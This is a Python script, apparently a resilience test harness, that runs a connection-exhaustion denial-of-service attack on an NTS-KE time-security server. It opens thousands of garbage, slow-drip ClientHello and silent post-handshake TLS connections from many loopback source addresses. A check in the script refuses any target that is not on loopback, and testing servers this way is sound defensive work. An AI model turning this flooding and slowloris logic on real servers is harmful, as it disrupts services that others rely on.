#!/usr/bin/env python3
"""nts-ke-attack.py: a distributed attack on an NTS-KE server, on loopback only.

Holds --connections hostile TCP connections to HOST:PORT open at once, spread over --sources source
addresses (127.0.1.1 up, each socket bound to its address before it connects), and reopens each at
once when it closes (a 10 ms pause only after a failed connect). A third of the connections are of
each kind:

  garbage                 sends 512 random bytes, then waits for the server to close
  drip                    sends the header of a TLS handshake record (a ClientHello of 256 bytes),
                          then one byte of it every 200 ms, forever
  silent-after-handshake  completes a TLS 1.3 handshake with ALPN ntske/1 (certificate not
                          verified), then sends nothing and waits for the server to close

After --duration seconds it closes everything and prints one JSON line on stdout, per kind:
`opened` (TCP connects that succeeded), `closed_by_server` (connections that ended, before or
after the handshake, without our closing them), `handshakes` (TLS handshakes completed; only the
silent kind makes them), `handshake_failed` (silent connections the server closed or reset during
the handshake), `connect_errors` (failed connects, each followed by the 10 ms pause); and overall
`established_mean` and `established_at_end` (TCP connections open, sampled every 100 ms, and at
the end), `connecting_at_end` (connects still waiting for the server, e.g. on a full accept
queue), `cpu_s` (this process's user + system time: near `duration` means the attacker's core
was the limit) and `duration`. Python 3 standard library only. The run ends at duration + 5 s
at the latest, whatever the server does.
"""

import argparse
import asyncio
import ipaddress
import json
import os
import resource
import signal
import socket
import ssl
import sys
import threading
import time

KINDS = ("garbage", "drip", "silent-after-handshake")
# Linux's IP_BIND_ADDRESS_NO_PORT (not in Python's socket module before 3.12): a socket bound to an
# address takes its port at connect time, from the 4-tuple, so that some 200,000 connections a
# minute from a few hundred addresses do not run out of bind-time ports.
IP_BIND_ADDRESS_NO_PORT = getattr(socket, "IP_BIND_ADDRESS_NO_PORT", 24)
GARBAGE_BYTES = 512
DRIP_INTERVAL = 0.2
CONNECT_BACKOFF = 0.01
HARD_END_GRACE = 5.0


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("target", metavar="HOST:PORT", help="the NTS-KE server; a loopback address")
    ap.add_argument("--connections", type=int, default=2000, help="hostile connections (2000)")
    ap.add_argument("--sources", type=int, default=250, help="source addresses, 127.0.1.1 up (250)")
    ap.add_argument("--duration", type=float, default=60.0, help="seconds of attack (60)")
    args = ap.parse_args()

    host, _, port = args.target.rpartition(":")
    try:
        port = int(port)
        addr = socket.getaddrinfo(host, port, socket.AF_INET, socket.SOCK_STREAM)[0][4][0]
    except (ValueError, OSError) as e:
        sys.exit(f"nts-ke-attack.py: {args.target}: not an IPv4 HOST:PORT ({e})")
    if not ipaddress.IPv4Address(addr).is_loopback:
        sys.exit(f"nts-ke-attack.py: {args.target} is {addr}, not loopback: refusing")
    if not 1 <= args.sources <= 65000 or args.connections < 3 or args.duration <= 0:
        sys.exit("nts-ke-attack.py: --sources 1 to 65000, --connections at least 3, --duration > 0")
    first = ipaddress.IPv4Address("127.0.1.1")
    sources = [str(first + i) for i in range(args.sources)]
    # Every source stays in 127.0.0.0/8: nothing leaves the loopback interface.
    assert all(ipaddress.IPv4Address(s).is_loopback for s in sources)

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    need = args.connections + 256
    if soft < need:
        if hard != resource.RLIM_INFINITY and hard < need:
            sys.exit(f"nts-ke-attack.py: {args.connections} connections need {need} file "
                     f"descriptors; the hard limit is {hard}")
        resource.setrlimit(resource.RLIMIT_NOFILE, (need, hard))

    attack = Attack((addr, port), host, sources, args.connections, args.duration)
    # The hard end: if the event loop is stuck past duration + 5 s, report what was counted and go.
    watchdog = threading.Timer(args.duration + HARD_END_GRACE, attack.hard_end)
    watchdog.daemon = True
    watchdog.start()
    asyncio.run(attack.run())
    watchdog.cancel()
    attack.report(hard_end=False)


class Attack:
    def __init__(self, target, server_name, sources, connections, duration):
        self.target = target
        self.server_name = server_name
        self.sources = sources
        self.connections = connections
        self.duration = duration
        self.counts = {k: dict(opened=0, closed_by_server=0, handshakes=0, handshake_failed=0,
                               connect_errors=0) for k in KINDS}
        self.established = 0
        self.connecting = 0
        self.samples = []
        self.transports = set()
        self.stopping = False
        self.started = time.monotonic()
        self.ended = None
        self.at_end = None
        self.printed = threading.Lock()
        tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        tls.check_hostname = False
        tls.verify_mode = ssl.CERT_NONE
        tls.minimum_version = ssl.TLSVersion.TLSv1_3
        tls.set_alpn_protocols(["ntske/1"])
        self.tls = tls

    async def run(self):
        loop = asyncio.get_running_loop()
        stop = asyncio.Event()
        for sig in (signal.SIGTERM, signal.SIGINT):
            loop.add_signal_handler(sig, stop.set)
        self.started = time.monotonic()
        # Slot i: kind i mod 3, source i mod A, so every address carries every kind.
        tasks = [asyncio.create_task(self.slot(KINDS[i % 3], self.sources[i % len(self.sources)]))
                 for i in range(self.connections)]
        sampler = asyncio.create_task(self.sample())
        try:
            await asyncio.wait_for(stop.wait(), self.duration)
        except asyncio.TimeoutError:
            pass
        self.ended = time.monotonic()
        self.at_end = (self.established, self.connecting)
        self.stopping = True
        for t in list(self.transports):
            t.abort()
        for t in tasks + [sampler]:
            t.cancel()
        await asyncio.wait(tasks + [sampler], timeout=HARD_END_GRACE - 1)

    async def sample(self):
        while True:
            self.samples.append(self.established)
            await asyncio.sleep(0.1)

    async def slot(self, kind, source):
        loop = asyncio.get_running_loop()
        c = self.counts[kind]
        while not self.stopping:
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            sock.setblocking(False)
            self.connecting += 1
            try:
                sock.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
                sock.bind((source, 0))
                await loop.sock_connect(sock, self.target)
                error = False
            except OSError:
                error = True
            except asyncio.CancelledError:
                sock.close()
                raise
            finally:
                self.connecting -= 1
            if error:
                sock.close()
                c["connect_errors"] += 1
                await asyncio.sleep(CONNECT_BACKOFF)
                continue
            c["opened"] += 1
            self.established += 1
            try:
                await self.hold(loop, kind, sock, c)
            finally:
                self.established -= 1

    async def hold(self, loop, kind, sock, c):
        """One connection of `kind`, until it closes; counts it if the server closed it."""
        done = loop.create_future()
        factory = lambda: Hostile(kind, done)  # noqa: E731
        try:
            if kind == "silent-after-handshake":
                transport, _ = await loop.create_connection(
                    factory, sock=sock, ssl=self.tls, server_hostname=self.server_name,
                    ssl_handshake_timeout=3600)
                c["handshakes"] += 1
            else:
                transport, _ = await loop.create_connection(factory, sock=sock)
        except (OSError, ssl.SSLError, EOFError):
            # Closed or reset by the server during the TLS handshake (or, for the plain kinds,
            # before the transport was set up).
            sock.close()
            if not self.stopping:
                c["closed_by_server"] += 1
                if kind == "silent-after-handshake":
                    c["handshake_failed"] += 1
            return
        except asyncio.CancelledError:
            sock.close()
            raise
        self.transports.add(transport)
        try:
            await done
        finally:
            self.transports.discard(transport)
            transport.abort()
        if not self.stopping:
            c["closed_by_server"] += 1

    def report(self, hard_end):
        if not self.printed.acquire(blocking=False):
            return
        end = self.ended or time.monotonic()
        times = os.times()
        kinds = {k: dict(v) for k, v in self.counts.items()}
        for v in kinds.values():
            v["rate_per_s"] = round(v["opened"] / max(end - self.started, 1e-9), 1)
        out = {
            "target": f"{self.target[0]}:{self.target[1]}",
            "connections": self.connections,
            "sources": len(self.sources),
            "duration": round(end - self.started, 3),
            "kinds": kinds,
            "opened": sum(v["opened"] for v in kinds.values()),
            "closed_by_server": sum(v["closed_by_server"] for v in kinds.values()),
            "handshakes": sum(v["handshakes"] for v in kinds.values()),
            "connect_errors": sum(v["connect_errors"] for v in kinds.values()),
            "established_mean": round(sum(self.samples) / max(len(self.samples), 1), 1),
            "established_at_end": (self.at_end or (self.established, 0))[0],
            "connecting_at_end": (self.at_end or (0, self.connecting))[1],
            "cpu_s": round(times.user + times.system, 2),
            "hard_end": hard_end,
        }
        sys.stdout.write(json.dumps(out) + "\n")
        sys.stdout.flush()

    def hard_end(self):
        self.report(hard_end=True)
        os._exit(1)


class Hostile(asyncio.Protocol):
    """The behaviour of one connection once it is up (after the handshake, for the TLS kind)."""

    def __init__(self, kind, done):
        self.kind = kind
        self.done = done
        self.transport = None
        self.timer = None
        self.drip = b""

    def connection_made(self, transport):
        self.transport = transport
        if self.kind == "garbage":
            transport.write(os.urandom(GARBAGE_BYTES))
        elif self.kind == "drip":
            # A handshake record of 256 bytes, TLS 1.0 in the record header as ClientHellos
            # have; its body (a ClientHello's first bytes, then noise) goes one byte at a time.
            transport.write(bytes([0x16, 0x03, 0x01, 0x01, 0x00]))
            self.drip = bytes([0x01, 0x00, 0x00, 0xFC, 0x03, 0x03]) + os.urandom(250)
            self.timer = asyncio.get_running_loop().call_later(DRIP_INTERVAL, self.tick, 0)

    def tick(self, i):
        if self.transport.is_closing():
            return
        # Past the record's end the bytes are noise: the server should have given up long before.
        self.transport.write(self.drip[i : i + 1] if i < len(self.drip) else os.urandom(1))
        self.timer = asyncio.get_running_loop().call_later(DRIP_INTERVAL, self.tick, i + 1)

    def data_received(self, data):
        pass

    def eof_received(self):
        return False  # close our side too

    def connection_lost(self, exc):
        if self.timer:
            self.timer.cancel()
        if not self.done.done():
            self.done.set_result(exc)


if __name__ == "__main__":
    main()
